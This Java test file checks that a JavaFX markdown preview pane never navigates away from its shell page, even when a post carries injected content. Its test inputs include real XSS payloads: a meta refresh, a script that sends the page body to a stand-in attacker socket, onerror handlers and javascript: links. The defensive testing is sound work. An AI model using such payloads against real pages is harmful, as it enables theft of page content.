package io.recapstudio.ui.preview;

import static io.recapstudio.ui.preview.PreviewTestSupport.onFx;
import static io.recapstudio.ui.preview.PreviewTestSupport.render;
import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.net.SocketTimeoutException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.concurrent.CopyOnWriteArrayList;
import javafx.scene.Scene;
import javafx.stage.Stage;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.junit.jupiter.api.io.TempDir;
import org.testfx.framework.junit5.ApplicationExtension;
import org.testfx.framework.junit5.Start;

/**
 * The preview page never navigates: not through a post's {@code <meta refresh>} or script, and not even when a
 * navigation is forced past the sanitiser; the next preview update still lands on the shell page. A local server
 * socket stands in for the attacker's page and must never see a connection.
 */
@ExtendWith(ApplicationExtension.class)
class PreviewNavigationTest {

    @TempDir
    Path dir;

    private PreviewPane pane;
    private PreviewTestSupport page;
    private String shell;
    /** Every location the engine took, to wait for a navigation attempt before checking it was undone. */
    private final List<String> locations = new CopyOnWriteArrayList<>();

    @Start
    void start(Stage stage) {
        pane = new PreviewPane();
        pane.getEngine().locationProperty().addListener((o, old, location) -> locations.add(location));
        page = new PreviewTestSupport(pane);
        stage.setScene(new Scene(pane, 800, 600));
        stage.show();
    }

    @BeforeEach
    void waitForShell() throws Exception {
        page.waitUntilReady();
        shell = onFx(() -> pane.getEngine().getLocation());
        assertThat(shell).startsWith("file:").endsWith("/shell.html");
    }

    @Test
    void aPostsMetaRefreshAndScriptLeaveThePreviewOnItsShell() throws Exception {
        try (ServerSocket attacker = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            String url = "http://127.0.0.1:" + attacker.getLocalPort() + "/";
            page.show(render("---\ntitle: Recap\n---\n\n<meta http-equiv=\"refresh\" content=\"0;url=" + url + "\">\n\n"
                    + "<script>location='" + url + "steal?' + document.body.innerHTML</script>\n\n"
                    + "<img src=\"x\" onerror=\"location='" + url + "'\">\n\n"
                    + "<a id=\"go\" href=\"javascript:location='" + url + "'\">go</a> <a id=\"web\" href=\"" + url
                    + "\">web</a>\n\nFirst text.\n", dir, 1));
            assertThat(page.jsInt("document.querySelectorAll('#content meta, #content script, [onerror]').length"))
                    .isZero();
            page.js("document.getElementById('go').click(); document.getElementById('web').click(); 1");
            assertNextUpdateLands(2);
            assertNoConnection(attacker);
        }
    }

    @Test
    void aNavigationForcedPastTheSanitiserIsCancelledAndTheNextUpdateStillLands() throws Exception {
        try (ServerSocket witness = new ServerSocket(0, 50, InetAddress.getLoopbackAddress())) {
            // The foreign page would load an image from the witness: a connection means it was shown.
            Path foreign = dir.resolve("foreign.html");
            Files.writeString(foreign, "<html><body><img src=\"http://127.0.0.1:" + witness.getLocalPort()
                    + "/foreign-page-shown.png\"><script>window.recapPreview = {patch: function () { return 0; }};"
                    + "</script></body></html>");
            page.show(render("First text.\n", dir, 1));
            // executeScript is not bound by the shell's policy: these stand for whatever might slip past it
            String target = foreign.toUri().toString();
            attempt("var m = document.createElement('meta'); m.httpEquiv = 'refresh'; m.content = '0;url="
                    + target + "'; document.head.appendChild(m); 1", target);
            assertNextUpdateLands(2);
            attempt("window.location.href = '" + target + "'; 1", target);
            assertNextUpdateLands(3);
            page.js("document.getElementById('content').innerHTML = '<a id=\"x\" href=\"" + target
                    + "\">x</a>'; document.getElementById('x').click(); 1");
            assertNextUpdateLands(4);
            page.js("window.open('" + foreign.toUri() + "'); 1");
            assertNextUpdateLands(5);
            assertNoConnection(witness);
        }
        int closedPort;
        try (ServerSocket unused = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
            closedPort = unused.getLocalPort();
        }
        String closed = "http://127.0.0.1:" + closedPort + "/";
        attempt("window.location.assign('" + closed + "'); 1", closed);
        assertNextUpdateLands(6);
    }

    @Test
    void theShellsPolicyRunsNoScriptButItsOwn() throws Exception {
        assertThat(String.valueOf(page.js("document.querySelector('meta[http-equiv=Content-Security-Policy]')"
                + ".content"))).contains("default-src 'none'").containsPattern("script-src 'nonce-[0-9a-f]{24}'")
                .contains("base-uri 'none'").contains("form-action 'none'");
        // past the sanitiser, as if it had missed them: an inline handler and a javascript: URL
        page.js("document.getElementById('content').innerHTML = '<img id=\"h\" src=\"missing.png\""
                + " onerror=\"window.ranHandler = true\"><a id=\"j\" href=\"javascript:window.ranLink = true\">j</a>';"
                + " var s = document.createElement('script'); s.textContent = 'window.ranScript = true';"
                + " document.body.appendChild(s); document.getElementById('j').click(); 1");
        page.waitForImages();
        assertNextUpdateLands(2);
        assertThat(page.js("[typeof window.ranHandler, typeof window.ranLink, typeof window.ranScript].join()"))
                .isEqualTo("undefined,undefined,undefined");
    }

    /** Runs {@code script} in the page and waits until the engine has tried to go to {@code target}. */
    private void attempt(String script, String target) throws Exception {
        locations.clear();
        page.js(script);
        page.waitFor(() -> locations.stream().anyMatch(location -> location.startsWith(target)
                || location.startsWith(target.replaceFirst("^file:///", "file:/"))));
    }

    /**
     * Shows version {@code version} and waits until it is on the shell page, the only page there may be. (After a
     * cancelled load the engine may report the other location for a moment, until the guard has put the shell back
     * and the last result on it.)
     */
    private void assertNextUpdateLands(long version) throws Exception {
        String marker = "Update number " + version + ".";
        page.show(render("---\ntitle: Recap\n---\n\n" + marker + "\n", dir, version));
        page.waitFor(() -> onFx(() -> pane.readyProperty().get() && pane.shownVersionProperty().get() == version
                && shell.equals(pane.getEngine().getLocation())));
        page.waitFor(() -> String.valueOf(page.js("var c = document.getElementById('content');"
                + " c ? c.textContent : ''")).contains(marker));
        assertThat(onFx(() -> pane.getEngine().getLocation())).isEqualTo(shell);
        assertThat(page.js("typeof window.recapPreview.scrollToLine")).isEqualTo("function");
    }

    private static void assertNoConnection(ServerSocket remote) throws IOException {
        remote.setSoTimeout(500);
        try (Socket connection = remote.accept()) {
            connection.setSoTimeout(2000);
            String request = new java.io.BufferedReader(new java.io.InputStreamReader(connection.getInputStream(),
                    java.nio.charset.StandardCharsets.ISO_8859_1)).readLine();
            throw new AssertionError("the preview connected to " + connection.getRemoteSocketAddress() + ": "
                    + request);
        } catch (SocketTimeoutException expected) {
            // nothing navigated to the attacker's page
        }
    }
}
